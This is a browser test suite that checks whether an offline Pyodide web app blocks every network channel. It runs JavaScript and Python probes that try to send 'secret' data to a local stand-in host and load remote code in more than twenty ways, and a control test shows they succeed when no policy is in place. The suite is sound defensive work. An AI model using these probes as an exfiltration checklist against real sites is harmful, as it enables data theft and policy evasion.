"""Nothing leaves the device: neither the page, nor the worker's JavaScript, nor Python in it can reach another origin.

A second host on this machine counts what it gets. It must get nothing, on the very first visit, which no service worker
sees, and later. The attempts themselves are proven on a page without our policy, where the same host gets them all.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from building import distribution
from tests.browser.conftest import wait_until_ready
from tests.browser.watching import Watch
from tests.static_host import StaticHost

IN_JAVASCRIPT = """async (other) => {
  const tried = {};
  const attempt = async (name, deed) => {
    try { tried[name] = String(await Promise.race([deed(), new Promise((go) => setTimeout(go, 1500, "silence"))])); }
    catch (error) { tried[name] = `refused: ${error.name}`; }
  };
  const ended = (target) => new Promise((go, stop) => { target.onload = target.onopen = go; target.onerror = stop; });
  await attempt("fetch", () => fetch(other + "fetch?secret=1", { mode: "no-cors" }));
  await attempt("fetch-post", () => fetch(other + "post", { method: "POST", mode: "no-cors", body: "secret" }));
  await attempt("fetch-keepalive", () => fetch(other + "keepalive", { keepalive: true, mode: "no-cors" }));
  await attempt("xhr", () => {
    const request = new XMLHttpRequest();
    request.open("GET", other + "xhr");
    request.send();
    return ended(request);
  });
  await attempt("socket", () => ended(new WebSocket(other.replace("http", "ws") + "socket")));
  await attempt("events", () => ended(new EventSource(other + "events")));
  await attempt("module", () => import(other + "module.js"));
  await attempt("worker", () => ended(new Worker(other + "worker.js")));
  if (globalThis.importScripts) await attempt("importScripts", () => importScripts(other + "imported.js"));
  if (globalThis.document) {
    await attempt("beacon", () => navigator.sendBeacon(other + "beacon", "secret"));
    for (const [name, tag, address] of [
      ["image", "img", "src"], ["frame", "iframe", "src"], ["video", "video", "src"], ["object", "object", "data"],
      ["style", "link", "href"], ["prefetch", "link", "href"], ["icon", "link", "href"], ["manifest", "link", "href"],
      ["preload", "link", "href"], ["script", "script", "src"],
    ]) {
      await attempt(name, () => {
        const element = document.createElement(tag);
        if (tag === "link") element.rel = name === "style" ? "stylesheet" : name;
        if (name === "preload") element.as = "image";
        element[address] = other + name;
        document.body.append(element);
        return ended(element);
      });
    }
    await attempt("form", () => {
      const form = Object.assign(document.createElement("form"), { method: "post", action: other + "form" });
      form.target = "nowhere";
      document.body.append(form);
      form.submit();
    });
    await attempt("ping", () => {
      const link = Object.assign(document.createElement("a"), { href: "#x", ping: other + "ping" });
      document.body.append(link);
      link.click();
    });
    await attempt("inline-style", () => {
      const style = document.createElement("style");
      style.textContent = `body { background: url("${other}background") }`;
      document.body.append(style);
    });
  }
  await attempt("eval", () => (0, eval)(`fetch("${other}eval", { mode: "no-cors" })`));
  const code = "return fetch(other, { mode: 'no-cors' })";
  await attempt("function", () => new Function("other", code)(other + "function"));
  return tried;
}"""

IN_PYTHON = """

async def _probe():
    import asyncio
    import json

    import js
    from pyodide.ffi import to_js

    other = {other!r}
    tried = {{}}

    def options(**values):
        return to_js(values, dict_converter=js.Object.fromEntries)

    async def attempt(name, deed):
        try:
            made = deed()
            if hasattr(made, "__await__"):
                made = await asyncio.wait_for(made, 2)
            tried[name] = str(made)
        except BaseException as error:
            tried[name] = f"refused: {{type(error).__name__}}"

    def xhr():
        request = js.XMLHttpRequest.new()
        request.open("GET", other + "python-xhr", False)
        request.send()
        return request.status

    def by_socket():
        import socket

        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
            connection.sendall(b"GET /python-socket HTTP/1.0\\r\\n\\r\\n")
            return connection.recv(10)

    def by_package():
        import pyodide_js

        return pyodide_js.loadPackage(other + "python_package-1-py3-none-any.whl")

    get, post = options(mode="no-cors"), options(mode="no-cors", method="POST", body="secret")
    await attempt("fetch", lambda: js.fetch(other + "python-fetch", get))
    await attempt("post", lambda: js.fetch(other + "python-post", post))
    await attempt("xhr", xhr)
    await attempt("websocket", lambda: js.WebSocket.new(other.replace("http", "ws") + "python-websocket"))
    await attempt("events", lambda: js.EventSource.new(other + "python-events"))
    await attempt("worker", lambda: js.Worker.new(other + "python-worker.js"))
    await attempt("importScripts", lambda: js.importScripts(other + "python-imported.js"))
    await attempt("eval", lambda: js.eval("1"))
    await attempt("socket", by_socket)
    await attempt("package", by_package)
    await asyncio.sleep(1)
    print("PROBED " + json.dumps(tried))


import asyncio as _asyncio

_probing = _asyncio.ensure_future(_probe())
"""


@pytest.fixture
def other(tmp_path: Path) -> Iterator[StaticHost]:
    """Another origin: what it gets, it would have learnt."""
    folder = tmp_path / "other"
    folder.mkdir()
    with StaticHost(folder) as host:
        yield host


def refused(tried: dict[str, str]) -> bool:
    """Where a refusal can be seen by the one who tries, it was."""
    seen = ("fetch", "fetch-post", "xhr", "module", "script", "image", "style", "eval", "function")
    return all("refused" in tried[name] for name in seen if name in tried)


def test_the_attempts_reach_the_other_host_where_no_policy_stands(
    page: Page, other: StaticHost, tmp_path: Path, watch: Watch
) -> None:
    watch.allow(".")
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "index.html").write_text("<!doctype html><title>Plain</title><body>")
    with StaticHost(plain) as host:
        page.goto(host.address)
        page.evaluate(IN_JAVASCRIPT, other.address)
        end = time.monotonic() + 10
        wanted = {"/fetch", "/xhr", "/socket", "/events", "/module.js", "/image", "/frame", "/style", "/script"}
        wanted |= {"/eval", "/function", "/background", "/object", "/video", "/prefetch", "/preload", "/keepalive"}
        while not wanted <= set(other.requests) and time.monotonic() < end:
            page.wait_for_timeout(100)
        assert wanted <= set(other.requests)


@pytest.mark.parametrize("visit", ["first", "later"])
def test_neither_the_page_nor_the_workers_javascript_reaches_another_origin(
    page: Page, server: StaticHost, other: StaticHost, watch: Watch, visit: str
) -> None:
    watch.allow(".")
    page.goto(server.address)
    wait_until_ready(page)
    if visit == "later":
        expect(page.locator("#offline")).to_contain_text("Works without a network")
        page.goto(server.address)
        wait_until_ready(page)
        assert page.evaluate("navigator.serviceWorker.controller !== null")
    in_page: dict[str, str] = page.evaluate(IN_JAVASCRIPT, other.address)
    (worker,) = page.workers
    in_worker: dict[str, str] = worker.evaluate(IN_JAVASCRIPT, other.address)
    page.wait_for_timeout(1000)
    assert other.requests == []
    assert len(in_page) > 20
    assert len(in_worker) > 9
    assert refused(in_page), in_page
    assert refused(in_worker), in_worker


def test_python_in_the_worker_does_not_reach_another_origin(
    page: Page, other: StaticHost, watch: Watch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the real build, only that `start.py` tries all it can right after the board has started."""
    watch.allow(".")
    port = int(other.address.rstrip("/").rpartition(":")[2])
    shipped = distribution.client_files

    def with_probe() -> dict[str, bytes]:
        files = shipped()
        files["start.py"] += IN_PYTHON.format(other=other.address, port=port).encode()
        return files

    monkeypatch.setattr(distribution, "client_files", with_probe)
    distribution.write(distribution.distribution(), tmp_path / "probing")
    probed: list[dict[str, Any]] = []

    def listen(message: ConsoleMessage) -> None:
        if message.text.startswith("PROBED "):
            probed.append(json.loads(message.text.removeprefix("PROBED ")))

    page.on("console", listen)
    with StaticHost(tmp_path / "probing") as host:
        for visit in ("first", "later"):
            page.goto(host.address)
            wait_until_ready(page)
            end = time.monotonic() + 30
            while not probed and time.monotonic() < end:
                page.wait_for_timeout(100)
            assert probed, f"Python did not tell what came of its attempts ({visit} visit)."
            tried = probed.pop()
            assert len(tried) == 10
            for name in ("fetch", "post", "xhr", "importScripts", "eval", "socket"):
                assert "refused" in tried[name], tried
            assert other.requests == []
            if visit == "first":
                expect(page.locator("#offline")).to_contain_text("Works without a network")
